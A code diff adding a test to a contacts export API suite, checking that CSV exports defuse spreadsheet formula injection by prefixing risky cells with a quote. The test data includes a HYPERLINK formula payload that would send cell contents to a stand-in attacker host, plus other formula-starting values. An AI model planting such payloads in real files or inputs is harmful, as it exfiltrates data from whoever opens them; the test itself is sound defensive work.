@@ -6,6 +6,7 @@ import { newWorkspace } from "./helpers/api";
 import { all, count, one } from "./helpers/db";
 import { downloadBytes, uploadFile, waitForJob, XLSX_TYPE } from "./helpers/jobs";
 import { expectError, expectInvisibleTo, expectUnauthorized } from "./helpers/security";
+import { ingest } from "./helpers/inbox";
 import { readXlsx } from "./helpers/xlsx";
 
 type Ws = Awaited<ReturnType<typeof newWorkspace>>;
@@ -106,6 +107,28 @@ describe("POST /v1/contacts/exports", () => {
     expect(parseCsvText(byQuery.file.bytes).slice(1).map((r) => r[0])).toEqual(['Grace "Amazing" Hopper']);
     const byQualification = await exportFile(ws, { format: "csv", filters: { qualification: "hot", pinned: false } });
     expect(parseCsvText(byQualification.file.bytes).slice(1).map((r) => r[0])).toEqual(["Ada Lovelace"]);
+  });
+
+  it("formula injection: a CSV export defuses cells starting with = + - @ tab or CR; phones stay text; numbers stay numbers", async () => {
+    const ws = await newWorkspace();
+    // A Telegram stranger names themselves; the owner exports and opens the file in a spreadsheet.
+    await ingest(ws.workspace.id, { channel: "telegram", from: { externalId: "31337", name: '=HYPERLINK("http://evil.example/?"&A1,"Invoice")' } });
+    const made = await ws.owner.post("/v1/contacts", { name: "Eve", company: "@SUM(1+1)", city: "-2+3", role: "+cmd", phone: "+1 415 555 0140" });
+    expect(made.status).toBe(201);
+    await ws.owner.put(`/v1/contacts/${made.body.id}/score`, { value: 4 });
+    const { file } = await exportFile(ws, { format: "csv" });
+    const [header, ...rows] = parseCsvText(file.bytes);
+    const column = (name: string) => header!.indexOf(name);
+    const [stranger, eve] = rows;
+    expect(stranger![column("name")]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Invoice")`);
+    expect(eve![column("company")]).toBe("'@SUM(1+1)");
+    expect(eve![column("city")]).toBe("'-2+3");
+    expect(eve![column("role")]).toBe("'+cmd");
+    expect(eve![column("phone")]).toBe("'+14155550140");
+    expect(eve![column("score")]).toBe("4");
+    expect(eve![column("name")]).toBe("Eve");
+    // No cell of the file starts a formula.
+    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 
   it("round trip: exporting and importing the file elsewhere gives the same contacts", async () => {
